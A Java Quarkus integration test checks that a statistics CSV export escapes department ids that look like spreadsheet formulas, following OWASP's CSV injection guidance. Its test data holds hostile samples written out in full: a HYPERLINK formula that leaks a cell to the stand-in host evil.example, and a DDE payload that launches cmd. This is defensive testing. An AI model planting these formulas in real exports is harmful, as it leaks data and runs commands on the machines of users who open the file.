package org.gridwatch.resolution;

import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Collectors;

import org.gridwatch.infra.DevJwt;
import org.gridwatch.infra.testing.GridWatchTestResource;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;

/**
 * The statistics' CSV opened in a spreadsheet: a key that comes from data (here department ids, which routing's
 * assignments carry over the real broker) must never run as a formula (OWASP's CSV injection advice: a cell starting
 * with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return gets a leading {@code '}),
 * and a CSV reader must get every key back whole.
 */
@QuarkusTest
@QuarkusTestResource(value = GridWatchTestResource.class, initArgs = @ResourceArg(name = "database", value = "resolution_test"))
class StatsCsvTest {

    private static final ZoneId STATS_ZONE = ZoneId.of("Asia/Shanghai");

    @Test
    void departmentIdsThatLookLikeFormulasReachTheSpreadsheetAsText() throws IOException {
        String run = UUID.randomUUID().toString().substring(0, 8);
        String area = "YL-CSV" + run;
        List<String> path = List.of("YL", area, area + "-G1");
        // What the spreadsheet shows (the key with a leading ') for each department id
        Map<String, String> shown = new LinkedHashMap<>();
        shown.put("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Details\")" + run, "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Details\")" + run);
        shown.put("+SUM(1,2)" + run, "'+SUM(1,2)" + run);
        shown.put("-2+3+cmd|' /C calc'!A0" + run, "'-2+3+cmd|' /C calc'!A0" + run);
        shown.put("@SUM(1,2)" + run, "'@SUM(1,2)" + run);
        shown.put("\t=1+1" + run, "'\t=1+1" + run);
        shown.put("\r=1+1" + run, "'\r=1+1" + run);
        shown.put("D-PLAIN-" + run, "D-PLAIN-" + run);
        shown.put("D, \"quoted\"\nline " + run, "D, \"quoted\"\nline " + run);
        for (String dept : shown.keySet()) {
            TestTickets.assign(TestTickets.assignment(TestTickets.newTicketId(), dept, 0, path, Duration.ofHours(2),
                    Duration.ofHours(24)));
        }
        String supervisor = DevJwt.forRole("supervisor").subject("sup-csv-" + run).area(area).sign();
        LocalDate today = LocalDate.now(STATS_ZONE);

        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> assertEquals(shown.size(), rows(csv(supervisor, today)).size() - 1));
        String csv = csv(supervisor, today);
        List<List<String>> rows = rows(csv);
        List<String> keys = rows.subList(1, rows.size()).stream().map(r -> r.get(0)).sorted().toList();
        assertEquals(shown.values().stream().sorted().toList(), keys, "the keys as a CSV reader gets them:\n" + csv);
        List<String> formulas = new ArrayList<>();
        for (List<String> row : rows) {
            for (String cell : row) {
                if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-?[0-9.]+")) {
                    formulas.add(cell);
                }
            }
        }
        assertTrue(formulas.isEmpty(), "cells a spreadsheet would run as formulas: "
                + formulas.stream().map(f -> "[" + f + "]").collect(Collectors.joining(", ")) + "\n" + csv);
    }

    private static String csv(String supervisor, LocalDate today) {
        return given().auth().oauth2(supervisor).accept("text/csv")
                .queryParam("groupBy", "department").queryParam("from", today.minusDays(1).toString())
                .queryParam("to", today.plusDays(2).toString())
                .get("/api/v1/stats/resolution")
                .then().statusCode(200).contentType(org.hamcrest.Matchers.startsWith("text/csv")).extract().asString();
    }

    private static List<List<String>> rows(String csv) throws IOException {
        CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<List<String>> it = mapper.readerForListOf(String.class).readValues(csv)) {
            while (it.hasNext()) {
                rows.add(it.next());
            }
        }
        return rows;
    }
}
